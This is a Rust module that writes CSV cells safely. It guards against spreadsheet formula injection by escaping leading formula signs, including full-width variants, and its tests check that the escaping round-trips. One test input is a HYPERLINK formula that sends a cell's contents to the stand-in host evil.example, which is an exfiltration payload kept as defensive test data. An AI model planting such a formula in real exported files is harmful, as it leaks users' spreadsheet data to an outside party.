//! The one place that writes a cell of a CSV file, and that reads one of ours back.
//!
//! A spreadsheet runs a cell as a formula if it begins with `=`, `+`, `-` or `@`, some also if these are full-width signs. It also splits a file at another
//! separator than the one that was meant, and then ignores quotation marks in the middle of what it takes for a cell. So an apostrophe is put before each such
//! sign that stands at the beginning of a text, or behind a semicolon, a tab or the end of a line in it, also after white space and quotation marks.
//! [`unescape_formulas`] takes exactly these apostrophes out again.

use std::{borrow::Cow, iter};

/// What spreadsheets put before the text of a CSV file in UTF-8, and some need to read it as UTF-8.
pub const BYTE_ORDER_MARK: &str = "\u{feff}";

/// Makes a text harmless for spreadsheets. [`unescape_formulas`] gives the same text back.
#[must_use]
pub fn escape_formulas(text: &str) -> Cow<'_, str> {
    if !text.contains(|c| is_sign(c) || is_break(c)) {
        return Cow::Borrowed(text);
    }
    let harmful = find_formula_starts(text);
    let mut guarded = String::with_capacity(text.len() + 1);
    for (c, is_harmful) in text.chars().zip(harmful) {
        if is_harmful {
            guarded.push('\'');
        }
        guarded.push(c);
    }
    Cow::Owned(guarded)
}

/// The text that [`escape_formulas`] made a cell of. A text that it would not have made stays as it is.
#[must_use]
pub fn unescape_formulas(cell: &str) -> Cow<'_, str> {
    if !cell.contains('\'') {
        return Cow::Borrowed(cell);
    }
    // An apostrophe is a guard if what is behind it would need one.
    let harmful = find_formula_starts(cell);
    let behind = cell.chars().skip(1).map(Some).chain(iter::once(None));
    let mut text = String::with_capacity(cell.len());
    for ((c, next), is_harmful) in cell.chars().zip(behind).zip(harmful) {
        if !(c == '\'' && is_harmful && next.is_some()) {
            text.push(c);
        }
    }
    Cow::Owned(text)
}

/// A text from outside as a cell: harmless, in quotation marks (RFC 4180).
#[must_use]
pub fn quoted_cell(text: &str) -> String {
    format!("\"{}\"", escape_formulas(text).replace('"', "\"\""))
}

/// A text from outside as a cell: harmless, in quotation marks if it needs them.
#[must_use]
pub fn cell(text: &str) -> Cow<'_, str> {
    let guarded = escape_formulas(text);
    let needs_marks = guarded.contains([',', ';', '|', '"', '\t', '\r', '\n']) || guarded.trim() != guarded;
    if needs_marks { Cow::Owned(quoted_cell(text)) } else { guarded }
}

/// A row without its end. The cells are as [`quoted_cell`] and [`cell`] write them; identifiers and numbers need neither.
#[must_use]
pub fn row<I: IntoIterator<Item: AsRef<str>>>(cells: I) -> String {
    let mut row = String::new();
    for (place, cell) in cells.into_iter().enumerate() {
        if place > 0 {
            row.push(',');
        }
        row.push_str(cell.as_ref());
    }
    row
}

/// For each character whether a spreadsheet could take it for the beginning of a formula. One pass from the end: texts are as long as they like.
fn find_formula_starts(text: &str) -> Vec<bool> {
    let characters: Vec<char> = text.chars().collect();
    let mut harmful = vec![false; characters.len()];
    // Of the character behind: whether only what is skipped stands between it and a sign, or between it and a break.
    let (mut before_sign, mut before_break) = (false, false);
    for (place, is_harmful) in harmful.iter_mut().enumerate().rev() {
        let Some(&c) = characters.get(place) else { continue };
        before_sign = is_sign(c) || (before_sign && is_skipped(c));
        before_break = matches!(c, '\t' | '\r' | '\n') || (before_break && matches!(c, '\'' | '"'));
        let previous = place.checked_sub(1).and_then(|previous| characters.get(previous));
        *is_harmful = match previous {
            None => before_sign || before_break,
            Some(previous) => before_sign && is_break(*previous),
        };
    }
    harmful
}

/// Whether a formula begins with this sign: in ASCII, full-width, or small.
fn is_sign(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@'
            | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}'
            | '\u{fe66}' | '\u{fe62}' | '\u{fe63}' | '\u{fe6b}'
            // The sign that is read as minus.
            | '\u{2212}'
    )
}

/// Whether a spreadsheet may begin another cell or row behind it, whatever stands between the cells of the file.
fn is_break(c: char) -> bool {
    matches!(c, ';' | '\t' | '\r' | '\n')
}

/// Whether a spreadsheet may skip it before a sign.
fn is_skipped(c: char) -> bool {
    matches!(c, '\'' | '"')
        || c.is_whitespace()
        || c.is_control()
        || acclaim_text::characters::is_invisible(c)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn guards_every_beginning_of_a_formula() {
        for (text, expected) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
                "'=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
            ),
            ("+1+1", "'+1+1"),
            ("-1", "'-1"),
            (" @SUM(A1)", "' @SUM(A1)"),
            ("\u{ff1d}1+1", "'\u{ff1d}1+1"),
            ("\"=1", "'\"=1"),
            ("'=1", "''=1"),
            ("\u{feff}=1", "'\u{feff}=1"),
            ("\u{200b}\u{a0}\u{ff20}x", "'\u{200b}\u{a0}\u{ff20}x"),
            ("\0=1", "'\0=1"),
            ("\tx", "'\tx"),
            ("\r=1", "'\r'=1"),
            ("x;=1", "x;'=1"),
            ("x\n \"+1", "x\n' \"+1"),
        ] {
            assert_eq!(escape_formulas(text), expected, "{text:?}");
            assert_eq!(unescape_formulas(expected), text, "{text:?}");
        }
        for text in ["", "a=1", "it's", "'quoted'", "'", "ama@example.org", "a;b", "x - y", "1-2", "a, -b"] {
            assert_eq!(escape_formulas(text), text);
            assert_eq!(unescape_formulas(text), text);
        }
    }

    #[test]
    fn texts_get_quotation_marks_where_they_need_them() {
        assert_eq!(cell("mailto:ama@example.org"), "mailto:ama@example.org");
        assert_eq!(cell("Mensah, Ama"), "\"Mensah, Ama\"");
        assert_eq!(cell("=\"a\""), "\"'=\"\"a\"\"\"");
        assert_eq!(quoted_cell("A \"smart\" field"), "\"A \"\"smart\"\" field\"");
        assert_eq!(row([cell("a"), cell("b c"), cell(" d")]), "a,b c,\" d\"");
    }

    #[test]
    fn escapes_long_text_in_linear_time() {
        let text = format!("{}=", "\t".repeat(2_000_000));
        assert_eq!(unescape_formulas(&escape_formulas(&text)), text);
    }

    proptest! {
        #[test]
        fn a_guarded_text_is_read_back(text in "[\u{feff}\u{ff1d}=+@;,'\"\t\r\n a-c-]{0,24}") {
            let guarded = escape_formulas(&text);
            prop_assert_eq!(unescape_formulas(&guarded), text.as_str());
            for piece in guarded.split([';', '\t', '\r', '\n']) {
                let first = piece.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\u{feff}').chars().next();
                prop_assert!(!first.is_some_and(is_sign), "{:?}", guarded);
            }
        }

        #[test]
        fn any_text_is_read_back(text in "\\PC{0,40}") {
            let guarded = escape_formulas(&text);
            prop_assert_eq!(unescape_formulas(&guarded), text.as_str());
        }
    }
}
